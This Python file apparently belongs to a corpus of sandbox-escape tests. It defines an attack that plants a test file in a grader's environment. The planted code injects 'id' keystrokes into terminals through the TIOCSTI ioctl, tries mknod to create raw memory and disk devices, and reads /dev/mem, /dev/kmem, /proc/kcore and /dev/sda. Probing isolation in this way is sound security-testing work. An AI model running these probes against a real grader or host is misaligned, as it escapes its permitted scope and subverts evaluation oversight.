"""Makes and opens devices, and types into the grader's terminal."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import fcntl, glob, os, stat, termios

known = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
for folder, names, files in os.walk("/dev"):
    for name in files:
        path = f"{folder}/{name}"
        mode = os.lstat(path).st_mode
        if (stat.S_ISCHR(mode) or stat.S_ISBLK(mode)) and name not in known:
            if not folder.startswith("/dev/pts"):
                print("REACHED the device", path)
for path in (*glob.glob("/dev/pts/*"), "/dev/tty", "/dev/console", "/proc/self/fd/0",
             "/proc/self/fd/1", "/proc/self/fd/2", "/proc/1/fd/0", "/proc/1/fd/1"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    for key in b"id\\n":
        try:
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([key]))
            print("REACHED the terminal", path)
        except OSError:
            pass
for path in ("/tmp/memory", "/home/student/memory", "/dev/shm/memory", "/dev/memory"):
    for kind, device in ((stat.S_IFCHR, (1, 1)), (stat.S_IFBLK, (8, 0)),
                         (stat.S_IFBLK, (259, 0)), (stat.S_IFCHR, (10, 229))):
        try:
            os.mknod(path, kind | 0o666, os.makedev(*device))
            print("REACHED mknod", path, device)
        except OSError:
            pass
for path in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/sda", "/dev/fuse", "/dev/kvm",
             "/proc/kcore", "/proc/kmsg", "/proc/kallsyms", "/dev/loop-control"):
    try:
        with open(path, "rb", 0) as file:
            if file.read(64) and "kallsyms" not in path:
                print("REACHED", path)
    except OSError:
        pass
print("TRIED")
"""
    },
    tried=True,
)
